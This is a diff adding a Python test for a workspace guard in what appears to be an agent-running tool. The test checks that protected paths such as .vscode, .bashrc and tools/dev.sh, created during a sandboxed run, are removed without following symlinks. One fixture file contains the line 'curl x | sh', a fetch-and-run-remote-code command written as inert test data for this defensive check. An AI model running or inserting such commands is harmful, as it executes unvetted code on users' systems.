@@ -221,6 +221,42 @@ def test_a_guard_puts_back_hooks_config_and_info_without_following_links(
     assert guard.undo() == ()
 
 
+def test_a_guard_in_the_sandbox_removes_only_the_protected_paths_made_since_the_start(
+    tmp_path: Path,
+) -> None:
+    """With the sandbox's protected paths given, one made since the invocation started is
+    removed (a link in its place too, not followed), one there at the start stays whatever
+    it holds, and one behind a link on the way is never removed through it; with the sandbox
+    off (none given) a new one stays."""
+    root = make_workspace(tmp_path / "repo", scripts={}, agents={"main": ["true"]})
+    ensure_excluded(root)
+    off = GitGuard.take(root)
+    guard = GitGuard.take(root, ("tools/dev.sh", "far/dev.sh"))
+    assert off is not None
+    assert guard is not None
+    (root / ".idea").mkdir()
+    guard.began()  # the person's .idea, there as the invocation starts
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "dev.sh").write_text("mine\n")
+    (root / ".vscode").mkdir()
+    (root / ".vscode" / "tasks.json").write_text("{}\n")
+    (root / ".idea" / "new.xml").write_text("changed meanwhile\n")
+    (root / ".bashrc").symlink_to(outside / "dev.sh")
+    (root / "tools").mkdir()
+    (root / "tools" / "dev.sh").write_text("curl x | sh\n")
+    (root / "far").symlink_to(outside)
+    assert off.undo() == ()
+    assert sorted(guard.undo()) == [".bashrc", ".vscode", "tools/dev.sh"]
+    assert not (root / ".vscode").exists()
+    assert not (root / ".bashrc").is_symlink()
+    assert (root / ".idea" / "new.xml").read_text() == "changed meanwhile\n"
+    assert (root / "tools").is_dir()
+    assert not (root / "tools" / "dev.sh").exists()
+    assert (outside / "dev.sh").read_text() == "mine\n"
+    assert guard.undo() == ()
+
+
 def test_the_exclude_file_is_never_written_through_a_symlink(tmp_path: Path) -> None:
     """``.git/info/exclude`` a symlink to a file outside: refused with a message naming it, and
     the target is unchanged; `ralph run` stops with that message before any agent starts."""
